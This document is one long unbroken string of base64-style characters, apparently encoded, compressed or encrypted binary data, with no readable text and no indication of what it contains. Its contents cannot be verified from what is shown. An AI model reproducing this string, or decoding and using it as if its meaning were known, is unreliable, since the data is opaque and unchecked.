QS9Yp76TXNyz42+smcboAcwL1oVcXXxTwQ277Kd5pyl7ylE7m6A6LontzVebE28Vz4+MZ/X4YiOgC93Wp737dW9kifx1LBQDsslt/do/7oK6IuX/CwAL570QRJ4I4Ynz2qsfWmPeoQAYneKn3zsqhrO1I4DmOBgxCAc9pV+iJmrSBmY99uCGulylaldOw1QxfiamUHLyKxQsobi4TQCxd/gBJbsMD7uOdoi/g8wLv7/G5ZLnVJucfZ3N4rzLj2kCimtrUaBDTgYNIl5Gonj5eE9VPEQGrB8zsi/R2xjPD+GRY1JjrJA+BRyYQNYAXPPxZHtXroIYOXAG5E0JW+992vrEydgtNHvdshiOe7FqWZaEJFuWfGlvGDtND8bpLyLaHx5vPugJZ1p9aCEY+X7L4gP5MVxHwqKbAK7iovahA+Peyu+IwMXJa4TY/6v8RaItx00WZ9HRWqfRwfHB7JhNMs1wHSMZh0YvKqvIAfSqRmjdbWaZaK5lYSVQKgqHm9X832W/JmatOsKtcU1Vq7tC1ndsQ2I/1k4eM53wFdevp2Qax+JA4iQxwedRXOPwkVYJWgJW5nDXIhrgwlzznjcsL9uWutsWlyqPYqpEzUq8RAcsguHrwRsHAOnN58bR4Bm8rmSbnbTaSeI70vgqFQIP9fpYKSzQ/MrJSSCp53FfhbcBjiWJbQSHKkCz3gg6O38EfMdioA4Xjy1GrPFTYp+xOm3+6cFq3lm8Uc+ZZCvCmDx3dM7Pl+L9CVmdlqyRh9INfbZz4glEwHthVxvTLT16TpFc8nS9lNopdUB9v2XMyTO+MVc7m60t42po2QITh4M6ubtsYkEPDBG4/uw70rwTSVZx0DpZKc9NFPZ31bEaRRC/2R17U9PV/MNC3vSZ8Y8VX+QZEzTUaxyUpmfqdDKRRV8466IZnQAeax2qbfbmoMEUw38jDv5SldK+9UCAujFuKlp7buU1/IgzoD9bU1ODqyvvspp+AWyd/IcFvEousV4MaoKSzmnNvsn9AlKWOR3T0j/T5IFhXdsSolJj9BhnNeNrpdOmTOF7d0UmP3PovfZbGB+TGBe0TSgxEIIDuW6QbZEKWM/v7hrChhNEGBzMchjwvMht8mmuPt5iddW0mnFAcyAVb+qp32R53afxew9wdWiFnmMA6pgWfYsLrlYycSyLTsn8Ko9NNeSf+3wC3IRip4f63WDLGlCn/epLcz6rWJThOBwQbjQwyF/UuVewAKMRKW9LVjDT5j+aMgHNLAHOMpz+WM2OsKDKn77QIikb6UnW3BUhH+uyFzSCAvFMgw7Rw6m4pN5STYewXxjUOV8BgLBcEO9wxgszO4qo3c4rt/uCJgH+R/GPrrqeh86bwidc8iEV8seDNfv4tt1Wr78fMuYk1AmCP8N0kbfe4YV4NcDOUeeVrhz1XY0Lp3+Wl1YagDvBwJr8jiSZgs04lWHFdtrN9mwqOT1A0b01cRMlHQoiw4wsiH2g/xMy6V/mMvDTTFBqO1RzAFKh0S0B/KQcrsr6rOv3gnTtFKG1brISZWaACjUW2z/JhDn2vU8tIjPRQEBlxWAmVsH85sjX/3llKC7by4ZNaSVpY4we29UXSgIdwzVulvdB11MbErGrsQWgmRFy32DaVXd5B/x/UbSPuTXS699ZwMDZZJgOwa+ofM3jhWCP1lZZz1fSm/hNWfknDasyTpO2Cj1dk7IjnvAfKM/VT4GMV6rGOYo0nHY+bU57tjHLsY2C0z/mnpkRr9J5nAdzEODP7BQ9BZuXdnKq4PDxnc+HApbH+zMmUJbTpS62clfR3Nm0liu/GQgF0CwDCQxwySpgQyrHQfoLr9tBvMQOTv6UkgE9KZO/e25I9Tm4YLV9dRPnbTF60kzMPm8Wq4MilDIjIaRwRa904q1f4IBfm4fI7EUPT0+nZSkJu6+/5ZX47XmB9RaXpTdWg4NHDax/LQi/tlAmYmMMOkrghHbNzp1GtkUmptfkhYepp5Ui971P4lNfV9HdW/kQidjPVnyiVNx0bzfc0aeylnKu3xycM56iPn81KZtudNwA6er/hMRjnpw49fgy3bU6RhL0HaohIfGpVew15VVPQSELdTOGSoaQz+ZrW2tDRnNbfJpgYNgUmfbBaoCwFEWCB1h2N78tv87Z6obobqvV/0Fp6simEg/msU2XLkh8pogT+UY38OGcpH5coD5ZF7g9HAoAROXnGutaroQjy8QNJj+S7OTLdNueuxKEfVkt9YrnJ0SYjk4WDzjI+JjsavDXrTN8e2r40ooL4meD5yY9uPDMj4Wx/JMvRgeiEpdw8Paj+h5KIRMxDX9by3ts30qakY/v5IgGUTCf24aSikHL4+/7Y1lyaBPg5P+t+gm8c0VMbW1qV+1qLvxZrvqLpBhG7bqFAouK7WroJSc7y1U8NmHxqu9+0EeFsRTV2JkU5QxX03M17Ym/vBJL2KeYscp0iiGUdsZW/WIjys2LJUVuQHRlF8tTA/g3aiuLon1J2T4XDyv+bUS3NbYcAYzZ5bG5QCaJ0p4PGFWlisUUVFxCc8S9DD69Rfz5XDMQSIm1XK+VYVlgW2Dg6HnYRvTeDsyIRcv5Rx4HgUb763dhr3pqQoapenbhMqpdNzsPPDCqCXHJBY/D2ARn9YahgWcEXSoO8T+g99/9vnZ01TAZZWJWm+nI15Yzy8w1qAh5H6CcDwmiDom/zk5eGElKTX+QN2ebAeZIdp8YGH0fFHNfmf+bc+mp+aq/nZZBenmpfkoX6Gu4nInwxE+xwGwH30VrcdPFwiYtGghRQ4bYJfsyFFKuCmwvxxBPY7fGPnzEtEb+Q0aCtWnVeW/qFscwcZbwddjufKdPP3zdfJOX8yHExlqS04SU9NZMGLXq0X3kKZpcZ3Hh/uYmqs8WJko0VIiGgp6l6ImsXEf7Lm9MBPc3Up2npJwgq55bFrES/ZjMC9WR+IWm1q3aIWNpWzjsVu+Lbppg9EstoyV3VswuwS0M3vrCiwrfWJagOm/CcRU1intvgn9GoUgqQfEsRoNkSWBy4WtNpeKZHHT694dyL1lChp17hqpyc4aOECQ48rQXNuc/lUyxG3XK9DAz11lAo+k2wOLU9jmc4lYGqx4lEH9LtjoSnRcXFBFK7kMNwXfq4D5RW/bIqs1Tte+eOhVrzA/IrvE8HAZEXu/FiJGGadVjcQfdqBRNzDCozrGtG3qWYC2PH1JqGEGrGc3RQQX1NhwIGPV9qb9rGAKv07w3WoR4pOtmTjd6BZteZVsSfNf1w6830ogVtMiIG6x7eCJxNcODEp4oYOQpZqKDwZxH91cQuw36IHLRwKQFZSRBF0POXfyOAtxOhyN1OiNHnXr0+Wu0cYa1/lzWSL9lgvmDnBnYCmFZqy+2ocKUYsurPUflgoziwl6q71firDlzh/cjwajbSHG7yqEZ0fQwP5qJpVoPdhQmPpYxcMF7V7mUFc8K5HaLH0UXoOUW22r4SJA3dgc6IwpOsBGeMoAb+jZvCc0NIgvWfaz5ygU4yFSD5OEgkt746SlQGNyDK5Tx11YLxEHS/na4vPPz0wcVvRGQM3rX9QF8+I2vXZcDlNFQycaD1lQzFw7prfjVudCRdYSqpCW/K/V7OJYwPVDq+xBODVi1tpqj80vgB2d8Ze2hV6fXpdKEaksX/7jNUGlzZ48PxRkThAXgvHwBJz5/YKAJXL0oVcOh1Lm5ZAz4ycDt73PE5ttts7W4Kptqbm4v20/re6xmdGQQXOTCkDR4F/BngeYfiVkDaRFl6g0MYT3FW47rx9Vx+ktTdcL4wiB+NSEdD4ocb7sABhZqL4ZAk7XEXPK0E+37u/Sp38LsjkpqU4p9HSpGosf9WlNXjhrUAcwxlXyv0rELn2r2BKVDfjStT4718BlzhfTZm44brtvPO2iqRn/NP9kvbv1CPRDn2KjpUTRg6Ymuh7g4uk1wLlVz5Mxf1Zk9SjKU7NZEXIpUKWqM2le9po7CR8Ds/vkyEepFkVnvquJFEqSBgbHt3tbH+eK4tcf2dC0f1JCCE+wZ6Ay8XpZ39WhlUOjCZeCRf+TFf8NbIU8eLaZD/IrVKp/fAcevxh1ZTWV1K7hVL5Ouh72I1fXi2PZkhyN7WfMr++TNifVBRsgZc4BxPnWV332C+5kPrAI8sxHn7DSJgOlqatIAwBHipCmyFGFJx4YV8aEIlUBUwR6ItqnLOfDKKg6rF/h2LVsNUlzY9AJcxEzPFZlcG4O942yzk7hWTw6bqHn2WxHNFcW3DfwOC1PJZ3ZHpfBCem/aQ4bUMZ2XZ8w+E74DHe0Iqf+kAmmJjl5pI98qCjzJQgRotV9bvCufy5Jhinuk0Ri/ZBprkQsSdD0uaty8uBV3mabb6nCuC9c/6agfmObBQ0w2O/CrEPi2REB2tQckC93gw4ZCxUuoyH1Gfm/KgwBE7kQF8AezwS9zBEVd0WBZNN5bqTp5z6pb/o32YdfWF8MXrBEiSUZAauDJ3pbPXWkFNl1+E6K8/OqOrABoCrTPUZ1Kdc21dq9ypsmIEx390EG+D/j9bkG5OjFdqtYHYekra++0xdt8sibdRxw3Wy6qkzjj0ju2nZabFY9WNkucSildm0GCbBFS4MExJGAJ7tzWAj8eJx+jh+B5kd9E544mLIFTr5l6SNtUVN3Jd1hQzK9q+iZ/W7zP1GCe1Bh3Ncwx+UKzqnM1n2+h+nDFy9Irfjr+78dk3QQo7zUXfU6c0UpRFz5Chf7GpycbFczp/Rs1yzEphcxBHqKddWN0kHPNT1A/N4lKf5+qOTC7Rih3HJGZf25R8c5n2C4Uc33w+4CuPTyOA71lby84ng6ttciIwAh8lhP9mHIK/7kIKolK7AuoVREIBzJLOKCsHq/uTvWO5zcard7sJTvW9C/NCs+P31Dvu98F5nauldjHeWjT4lZ76QC19gZ65EPOfKP3t0GdhvHrEl7pPlD+X6XL2t0r6JkLr2BZ43pVor5LhOaGfvuapzSzL/VtcpKkMn8p1fYHoGFqAwP27mVA7E4cgUjOya1ZulJTQwODp3I54ZQ0YDw+azIoWxv0oU6WRdPprm8crpn409Ez/L7gfgw5w1ICXVESjVvFWyd7j3dD7jqqOhWYVp3Dm2A+QpXl4sTYNEHeJkbDxn8EMhrINKYDgbCGUrQedWvpX0dfpTyRUW8q1TPGq3n+9NaBXiosJIlKyNKpJ0A4qK09Tu0DAJIR1dKPkqyckSIuO7X2TdSSOJNb2brkclgTvvVOdoNh5B6VyKcNHtPZWBQJbpZ9KeTXNFJG3BsDmYbXB0YcViBDhH88jtEsYus4fpKoMd9pLog74YwvVf7gv0xSVyGjvLU2P+o3uiELskrZrF9Pw9f0mdJjmoG82t8AQ6kOWZuJBjenp2LIOU7WAg97E4QAdbgAEXrG4XQxLNt20pBeKnC9HkdX5Ur89RPqggUIRXU4tPb6sv0RM7e6tKbUVcr6aKcZeUSY6BprB2ZWlYJUFzzUaaOT+oTd8TQGjhvprhRsUC8rwjupgGDuPaw5uzYaD4Jjvgc7wc/J7XoSBLgCtHFKQX1lQSQsTtQwDJQ9iFprrNXPhRNm7dgb2/C3DuTIgEUYbLwBOf6BkEEYAvKSv7MUpvDl6OofUpIofpuFChhEMu+tfUfeFo4JLvKSIfeo+OYMvdm+U6lIy25K/yYn/OA3+3CIA6HCEq8Tbe81x563gPs7N8eZIJz0BmUBcsxilsGB2NdhFpP8Bl+2ETbaWlNWiYU82fDqwHlBIuVBkADBM+P/QV4W2Q+M7oilLaEkHsNHo92JZ3kYoHYc8wrkVyX7ORzFJAMGkD2cA6MwBBerkDX/E2dD6fZE8/OcleZAgIoW4ekiakoj+XtYByL145f9+7tIB39P5jeHpD5BcMIRbhTYPGsh7aiDTZLsSLR83M4INmBvSmSth8py1TAeJw5rrKcNRhd6jNWxfYZuFegYiDVpdu2fhrJFxv0dNlJ+EfD2H4J8DLg7miDpzygRvlUMQLhTuQYOePF/jolYj6aNUkxokLcYjdWOdYWXRU1Tjx3TZd1xA0R6sqEGCoOup1tAZXP314U+eZAl72KMAAOdBZC8W2RRvIoenroHuWRermUZhgpccgPnAyP+hWuaagbCSOXfgiVfkRLrudakaT1KmzczTvV/vWeF6A97SecV+TDb0Geu/WMIa+qKiZp6uBihvG+rIQ5pRMWeuiydsJ72JKjH0dsygtyUf9Bail7Od3vF21VxoTz9lr2shAcWRwZCplJ6r7+vX70GEz2/GTuQdH7BV9L53q0J3h7/tylkBmdakMWEYbzYaMxgyoNM+5RS6FmNa125cokz21ax78nmlztdASaUYwHJFPD5Iiz6pp8ClC/LhKGqJyUERJ7r8KSDd71qrSHtbmtFTG0yTepuerVGlZAlOyWiiSOtWrNpDrqYFY/xwxBfyt6bL/HIDWEAFgTW80AhWjczJ/ZU+Duyg7qChPujIXCz73iELch4zoUD3+4j17CSyOpHE+h3DeoAVpY4df/6Lk3dvzoDSGtZ1dfG4KbB1YQMj7pVOPUjGS12urjKgVfZQS9Zb3VQd8oth0Fqsd8oC5LICyzr2NMcwcsosPnJ7i2eCs0muPaGitPDQJRdb4Dq4AVeHslbZjjuHnTEY+Iw7nPJb6nrZi8oM20dZ7s+p8GqU2RCacgHjy4z0lGPlgaaEUNgQU9DZMAfWFU5moRzOoNuLh0nAkIeFwPnF4i1zdAiVmwXLLqQmz1jMNPm+ZByypcnfU2K79bdCq2j27m9z4knMDl1tmY5GNnYH2bWJkqUAOjwpdj1e5FnzbpxXfrin8TzJ0UQjY0euAkaxPZbOMAYmWimnYK8X7x2XMeZi+yuh0hGRXdwj+XLldAc+2qZpXD6AKL9hV9HSXm5YWtqF3lzkHnDNLLzQSmyyjFiQnuYNTpL/GiXp+bN+TJEBQ0hSLBwiTqEo0/GTRdGYydNoNyqDk+35r8d6+nhZmER4vOcCrS39k48nOw6wppn8eR3q2J3kPvEIR9pFOSfmiICkZx+sYCO2ogIt7TaUAQ/Kbu0OOAWS21TKHyENQiO5qkIT83LjQdza/EJ4gC0+sxp22fk6L9YLa6QUSf23kUI85OmGUYrkiJY1bj68G3wT0mPyaXkYyVe3l6FoAeLgtDp9NbGVo1FfdtfuIzmX+HAWfD5tRWqPzC9iKipTxotKJPP1Dx70Y1Xl45mLmsSJ8hKqbCIQgqpm4b0ysMpjJ+R2TVOaQvZWUA3EqVaaNUGacYj02g8v+1M2FHTeztcuRz63FeGf8Xul3pWl5RqaeRR/RsUt09tXZ7WIj/lLJ3c2p33baxBo+3HuY5lRF5wxnXWJfBZ4wnTwSZ6TGG3gTUv2aZCab0HeVTwwWxRovbzxP1ODwchHvtc8Nzpppgg73+6yXVQPLK6NrPaAGWPRByoIxAm4cE4xVNCnkdtl/4czhFaLDgVC0sW3kEcTTyHXNkhp9P+IQ0fQ7JkDDJ2o7nCuph0YtLmvtFXBfbz+3Xy1iwVLIEQdhkRJ9mh3nty1DQQwc6Wvaxg19SEQZb4X2jnFNd3JNwAvK2WNKwOz7CC8zVV6TuTfEWqBwQVJ2d5WDuFbTt3wxakfy4vpb1hHKn/Ib4VIabBEhBuMWYuw2zra6vV+EFlvfUbQIkRzU2d95/q4K0bm0w+gEG5jot+bv5/O6ssrZRz9gOEKLcMnvvjUEnkxkyw2hXrMYvr3Opvq3SCc3Fg4PFRBMDK3xdSxfkMg9TBMwl2Xhtq4EDhL/mKAHjmOcIdPyElsFDRf5bgA6mjiAnHOnLCgKoAXMOhN0gZNmT0u6aCrxBaTRyXLGGDrodyG5aD9VSRJIeblsuEsHo5CJU009MRbaOPSnRWTXLf6nZT7yGIbZMEIeR62AdP+Q696OavT85RToVnEmAtuhVReoyVqXxgmfWHLkR+jBcunKpGMTU4dQmUOBTa+W1bWgo3ndp5SJmJP+nQHGuaq2d+HIdPtB2iZUlQTC5+5NusorgO/aL0e8FxB/9PrBnb2bQotnVfpzvjuI6HZ9uKL0S5DdJ4oMNTwIpMLoov1JlZWdk+fccuxTmbYonbOZrUQxWRwFRGchEWU/BebcjLd5J84Qf04OUu+XLGhmZRVyWK1Po4LFwEtXP2ieBG/+FV+/Wo7xcLK/9c5UzSBkFbpZIYAxPvmM+REnqetKary0i1a6YA6Ndld7ZmNxSCiFB/sl9vzmdBmalr5Oc6szeyPr8ULrjIQfKwMsVlKGY9xe0TFkokeI0Uh+N6OGd/HxhCcPaOGP4Ai1l0+/qgabyDGBYiFl6pgA5cBIecsRjd+bG6TI32qB0arz0fY424cJi/NrDmhDtUggDFNfyDpBDCQxdx+lW379TuuumDNmiN0/BaQNQOPzpLaIRvOOT39d0jucU5XLDEbCRPzJo27f9nrquZI3IHJjtlP9YJe/cm5lw7OSoPCJv9yE1PSXR6p65gBZIfk3p7nyJB+bPBP6v8cwIv3UATELi1BtOU42VSfTeX+04c+4y+3U7dMZntE2UMhsbW2gIllm912uBuCw3uvSlvVOEc/Ej7mhbtgIfxC1pA0lmP7kZdnirRu1H3Fe+PJDwNjBlQJ7JoIxAQ3xRzfP3NLqXejCyQX/QbWVsbTVWSZkFCKJcrtbPxk41/0MKiCFrudmtYXpciFPyeE8btz8eAzmTUMoKrpRnlGNFLGB3umY788guGPJzhh2Fo//3RNc5IHZE6mru6r4ZZbCXo2OKxhOwKPEVSD8w1DFHhxUQl2d8XlmP4I45RpS5wAbty843IcX+Ctwnj79Zpmq+f7835RXd3ejApXNdcVhbJkNJf7WEE/r72zbTDIhfuzAYsW0G2ZgWGp++5ok6xIzrvQYBgT+1Hk12+Bj4hr2rO5qpURGGp9h9NGHg5MZfF9wUngjGqWgPwq+Sy7+n8SrfT6BtML+R0X60VLTF5Ws9uf1DZaH3ywh4fKSjQLUtBgFpoOTw4M0cO8dvtldqegkZ1j5z9ZB8Um3pIq5i0UMGo08gCp6Cn74B8BYGnm4p7bmi8k1G7bnZz00BS91cvVlDIl83ZXRqIBMURTnA6W6J354XnDIlv3XhvHcJ+5K5mc2ZvPovRo1XdtSVfWLAnPXVIXvkrY+qGCEgxN8I6hEnur+NpGK1oICk/NkB9HKfW+YFy+ne3rNjZCUclHZ7kvfM70jSC1MT+kz7FGceZ/zl2PzOhcKsTEZaslCRPHbAImbV08H5c1/U74FhIsEVFuSlgzfbxqrDi7/np9XgUDm3STY9wQ+mhsHYVZNJr9UD+kKXMObMEIslq+yhxxrSKchZvIZiSSB7Y4cqmKo23xjY4OjOjr9y/uSf8wnOQjhgua7MOTkTRMzzsPCyrz5wB+Y+e996CKWlGEeAWALvZdnu76OQT39uaOYgXieCe3nWG18rPXENVHlfD3VXFgiWaDj7yNBchspHVTbafL6t3Xr2ZbK7ofoPQnHvVUZ+aAxNn6OAS7i4N8/Mio8IKRBaGGARnzFTzhsN45mBlm8UkL/qryC7tj6hlCsyezNimcMduL5DyJXTJEYcpmrkAS2h6nkJvDxOf5JKD5rQ3Gib9Js/jfPoRnS7ZQXlq9GcRM+mFMgkB6Y2Y3k/y139B5Xj0UOKRRpjNKLHREv4Lj958VhmsBJ+CWx5LHboHgFhwkBS2z0Atky7JMuCM1s7qTU+Oq/5r8R2Y0A4rLdOq5LOF0UeG6DbXn0pfUdz7+bjYAVNuh7ARCdU5JpxGObAHHC6y5LU91xxb44LLyi5z4VaT9ewlqSJZMul6vkYidcsakKLbhxKWZYZ+ZiOZsdaR/IwQb8cUmXSbrCzkno8ZVEgAv3HOqR8XcyGbJ2HXhYFjv3MhywHJKryFiqQNHnSwpheE+2Z9hqkGkYg03nAspyETroThkvuJm5z4X0dzn0UYlpXGHL97cS5K4mI6d1cFnSS51apyY/8aIVYdDdxEJnwK11GrmKhcpfqd4M630cHPfgCz4/5X1bRNCT7LgUYDuuld/7fTpiwTGgNL73fPoX2xrQsb5U0tTJNXRUYkYuf5nF9//s81rnqcyiiNYoJe1D/4zg2w3X6uWDtVuW0Q+1hfWmCZYCl88IddNdDgph3wg52ab5Oqb7f8dDBKtvBAFYmd7pnN0hasmM2kPNx3PD3Snd8XVHhbKKewplYEHJycMY70lAvKAy/4fjj0HdO4gZyyafAvSWHilvq8KOs7c4IrleTnFqXh2n6wQdIwRwyd3aKxdFeYZ6frAENa43yB4yu5USAvV6d/KFaEfLeU1ML02UmPUMKkwLePSxmT5EbJJd5CUHBV0jold5FkzLVDK/6tpRnAzM1Lx3p5xFhC122n+bIjDpkOzDitI/kYLzfheY4bQIzJkMulDFyBZRX0O5hm3Bu1SQMw+IjCONCMyp//Cuw15zypYc83lvRzIb88pltc+T6+zoz9S2tiTcmblYNzOVK+g3wp2T3CW5V0XCE4hGX5FhkEdPNL+kTAVwp2228qaVspl+MjCv5Xlut6CMWXZpeKdmXS9imWX4VWwzy0BJlpmQZQdOMVmNsjY3KiUU1z2nLKFDk84vAumXUn73DEcrrH/TaGRyElNQsSw3bSJZCe7tKXsW5fMYz8JXvrK0LbTAx4ZLhmcYPnhvubIb1BxnucqNrXGLF2teqyxeLCVPBN38/c1ZvzvvT9fsdQIHibaXJDiEdwCSpZ5l0N8omLn20QDx0ThuVjfaW0PHv5ctmKn++mqvFz4D1KAu18gvIv2T/LDVxC6gDHtXFWTdHX+mEpYE0cCStedKPHMS/3P8ZBHrAG6ury39jDPwJI6FnVRVEfFR5j316I5VAmS2kjpzrXypU+dPX1wyJ0W+0tIqP1zgnIW+0q9eHm91iIKFBBgzMrXyyuPC71cIpQckZuawxdzLr2DXS5qv053Wo67ZJfRL4yFX8xbmSDlv18dblKe73cu786AsI/kSIlzC137NRjxHKAIg9tc7HP8cu8j+I4lJ/Pwf4OgmAgaERdVIhOrVLyPz4+L8lpYMdg9Al3zfaiX4tHV6JwOlKeLTG/e0PWRi8IPDG4PxtAIg98ZKCOdI5UJgukgzEtCKaeWW+BM1l7z+24wCsZZuZzUWaiGaNNoZoIVFC3ScfRODJU5qhlL4PZOYvNo5IWYf0OMAPxzi5uFtYARwdhsygDO8jtNkrfoup4g3ammjpVfNvWiEIeW1fbQOMu4lcshpzzsvUdIhXF9iPCdMYENwp7ZuZEKs1q/Elyw6NJjx3yEJrbQOrRJ+qtN4prMgkBbulInaSLgoi2nkGAg4O/nEYde60f25ng1LrwHgLnot4bAvHB95R7CqnN6+pc8rlJF08Jw2VQ3dpc3u4+ZYKvvkAW6Fj8qVjuN0ohcl7e675rFD2buBd4Ho4MfA8nco3i5+0a/bgNLLYy9R35VBkJ/YXlKDllqvVgwAy5jNJ2EkYZLC5g3DYz4ptDRjuot9Eee6xCbP98sqnnrvmmKU/aHMDOZOIcdOgtzIxfXowRrs/43Q1Fxc70VGt7Lc4KON2G7XwVyutuy4dC0e0wJjrxYaPIMOtSp05s3cbQfURA53yvZ8uFrEViVOQmGormaDb97/9XZJREAQMSo6z6VgbWkJQm7b1O9QF4v+veT+NtlWwdKcR0y8gO25gyoXJBDmZlrtmCVa1XizC8sFdteVt0N10uVhUkacY8wtwPnuEPKVv/67ad+KHJ+qMl3vB1LJ6Cbs2sJ7vYLegfr71qf0DNdxw8vuJVhXtWItFH1Emhe+8ehlO6koPGy2Slk9i8pGXITZpHXQvepSedlg9hF/RDpyooAMqiw1Uq80hDssGPKI4mV1vUFTSx647g0Coa6atVONn0HCLx7bD3JASOU2ZmKbWGrDNFuFSDe09ZQTiSUSTmuQyQaMUgaq5VhWPYriHzWJeMFEpg+V1rS6hRfdp/HePnH7rbugFiu4pAtmPii/jGSyn2hXFfgX++HS2lUXMwhav2h4/UEv3cez4BIQfmt5azvk9lQ4wZ0o16TVGKp2kKn01lTmaw7E0RkGlkgT+/LnXJ5XblQt//gzLg5jWPrdBY+L4Cc1ymCSV9uRUw8jN9iwPYSd7BJEFj/6BXvObQZLKz2i5AuIaiCT0K2C+4fMU5TfDqB/To+yMdXVNa2F5KNm/VmXU5nfX4S5ngMdGY203IKcHdrGmINApXZATNrcZOqQZXFABHJChQ0ntDBo2J1BHVhnBYyVOppAL3QYzsBjyp4No9lof7DXKwTFNBoUtzHHs/K1KF//xjjLb+5MsqoiYYakLD9tlaw8AOlUNS94TjURs0QaGgWgd0v9bggWXW5oVAgm+BBVhD61YW6WWfbRZFyBX/IMHtRDlu1/svI76faInGyxi93Ktj04CWnle3/XNYlvRMbTxHfTysqT9+2pMDA9KNzugcS7MgL4Tgi97bQWsgUJOGGgHWZI+JaPpS8gb64dZp77BMeYbPAiJKEKosogr0n1ImC2chqwJ2bYeK1AmnJGUD0Q6iVxlM/8XukyXIwIjr2WzoaNEKeFsOIvvor0vg5gmnGlg/5kRM8tACyCxEd4dU7PofR6FCGFheBCDWcUqKSYQmcn8MJkQzDA9b9iDo0BWhLzOJBQ+pUoGTHBKOD3ufAYABljeeoWgmCDowctgtZ3A5yTqbGM9jdG+/MLKPT1JKU48+KcgRsz4f23Uiz7Ppfmj8sFkOeL2LFVEqNdbtZg+OE31Hn3Bl/WcYg1G7GonDpgbQckh/NuOp3IQ7ymXA6i1MlFxXAn+cGiWTu8Uzx10N1Oam5aFQDHid6rxf07iibKbUWHS0bcnctL23E3S48+EZrWMFegub54q4YwDcoesBKeieU1wn5msrF/PbEW5roim49T5pwqncDTGHBeeg75an1mRgjsG3GOpJWW4YBJn1K3ivJD8DlpzgEy98pB++j/eUauX+6cJtSQGB2cAFsnngRXIqa0pgSoiBskfOXWbqnRJ/84jEZpCBWm+qJpE1vAnwWZmU57YLEBcaX/+3u77CehQnTGc7M88IxvMX7DfDwY8vxZBciEMUSyptISQL/4JAJxFT/Gl8A0JK9iMf7Y8IrrEezIwPMa8v+AH+tQyXiAII/VnCRwyElG9kVdeBXZOsvzcQMiMRQdql52x+6iYvgC7ZlS0NUQKFEb+884lr0WiWnRk6fL6J28ImNL0o6QETe6ASVy7tmGl6ICkwloxNS0hI7KJzfkA42gUMx/iIaNwkUYAqfZK87Iv5s00YzCNPWghGJ6Op8YvMNcmATaeK1QM94xJp9VGdbywrONLqojW6t1VSw+QbzLpyxrelwbldtvJl++mwGPWhzm/8LRvZUAZwXlynHQzRnkXLAZyjjsESwcqsf7v9IjfVlM4m5vX4GI/Y2ru/y8Rv8JbSLJAoB45fHC2xp2yoX8fJgOm2DkXD2o+c/CMWH7xd7ZMH6ANTz9FAPF4J4R3VCmxphsfvylcOiLsQWmtxYcbaF/0gp1BsPKdjOWBTcMymnBiSvFECXhJTgorEi35zagxSiBvBUdYsGZBt478aUCQAv1ZRCUHBNCJL3PKimCTVnV+EXAoMIMZy6kM9mcLVMqJhBXOPhGkkEn8ja/xPqTezHX5JhRPUzaD2ky8o5OKJQc1snZ7mBeL+U67z4hihEHSYWxEvPhpa7r7i5NmgVULVZ0+w7CPGEiAF4CJdYVUUXD+yX2UcF5bxCJrgENs42WKFznup2SNFQWKYDJdzn+JYKFNVb9EI9E40en9/F2ynWX9AmjPmYX2QUx8y6FWTBkD/Zy9N5+A6tJvDG5436SbXB9Va06bQ1FfZN0QQOqqXCCmLoYTRc6/zuV2DPt4QkuTga8qlvZraGiXsY1q98jNom++YvBSVlUDZ/v0wHl+JwrPN4v0o65mShFS7V1Z6G3nGJKRR/bQzd88uJdZVLSFnCyiMmSodWFvnOYb8hcCRUakKwAXdnhHVwLgLXs2X3m7A2j1xdjR/GtieFrGSzOtUuemQK7GLb1/ah7ABSzCNSOWVInLm7vBmFDUQRK2TrOnJUgQ0U/vbUaQ8ymYwU9gBXynCU+GFyGjqOmXhdHXvXaZhyN0Rzu5nx1xy++SEqjnMn8Bc3cOlgBDvWQJDDlU/SU7368FsNYTtPZ+SQapFd1MM6mbLkaCz5ycqENO5Hp1aak07R6MYydPKqndlp/UP7aP7kzU5G7QQ6yrW4uBtYMKeAzvvz0OKrQEp2UalVJeBkbkzf+MiOvmDPGegFiXs7xNE0ZFTbp0P2s+7Mh0hcyR6s8KAveL0lJK8Atb5HA8p+9PoqgNGLsY29nG8x8P1nFkzWEAaX/T1Z1M76JgSeBWAX5nB7UtZ5LJCjM6axb/Ud/cpWgdNFLw3XGkXng77+vt0bI88O3fjx7POpaARsiUbals8TEjN6HKJki5fKU20aGNBXmTiWvRx5MTx5O5plav1SZ1YfXqTfeb3qTTziYbF84/GtAoLS1TBbcPDKwAnnHYy5sDS22WttCDBuTq/Nu4b3FbwE7g/lUyHXxn4ErfSGPCJLwAei/3UaovhvYJqtE6LMhWl6Cht0nIvUa2KS1+U4ZcUa1Tb8+YkBy/idz2efA/OcbZoYdRwDLmaPCGRCV+WR72OxQMoj+QZEqxI5fXLlkIAX7xGJsJMnEwU/2Fh4yjYB1t7/kGG8AF465zGx4mkE9vf2fH8G9JCti+1OPqwxUe2mXWH64NsM8GMfw99zS29J6o5k1zKXIpPjC8dT1R0RUzJ5jTs9sYNu0d6ouC+mvq7svJQmjoLMP3CIUlg63JQsHo8LBcR3cY/07iXe9v6GhKJF8+ZM2+JpaDkDW2TtGj1FI2rd5sf5HdU0/zFg/E2d6VGaEicOzL1PIUJSmJ9O98MZzT/69kAL5R1aJ418gCiAfOxKtRScCmpnYrYBfLTpCog2MEFxFHtak7LvY/Eb0OMQI3NsloOMlJCI69BBls5s8juCAwCglZexwM8HM2s8IYPkwX1jlusseSt0MirRiwQ/YM52zS5aDvFNkjNmWc1auZcnPEz27SFYb0ghqB5Jq1Fiuy1T0+uEdDz5M6RGJM86ENV/y55XNrowOepK8QHk6NuS9LyWwjd6lct5GMPIOKdR9cogyfr3rXL1TrMgDJdgZDwUU5a43W+iJgXPEUxzwGHEQP2bc/ivruKuATDtGRWq7eIv+X3AsiCnvXLXeHGOaoMEfFSgg5I0PVxjWi6EpojliQQlF1ONOoE1Dk+eadSJAXFvFsBBZ05Fp5vRc5GXhNAd+Dv9XCk1UuqWrqIfNje39UrbgOgPc1yQ+HXkbrBx4iG9DZjSin5h98sVxr4W68PkR7ebNsubbu6p0/XVYbjb1y3TaVolxipJjzqsmLycjuTdpWilnQJ1utTtAu7vKyitR37RZI/ks6JEfiaLg/kfvgOdxrInE3ZG1c9HGLjnouu+JnL+CHvGvFppIXisj0D9ZMXighs+cJt9CCBnhru/HlMyZBOzJ6zG4nxNB14mfr8G5itYUAo04VPPM8sekB5NF0wRFamMsRusQgJVq3KPUu/i79EnPwR6kUy4XqieK3g3TRBLBAflD1CxWL2vyFD7TRC0WA0Ymf1HbL/OohVdHet1JeZt3epZT1Yu6Zy2vcJYBNOxlzfuf7jHNvV56Vg12iMaNLFTR0t8Ofb26DB5zZXX9y3bILFIzJOVkoFT8etwmT81E1lL/aD2lUvIZbyZinRteZmqJSSueY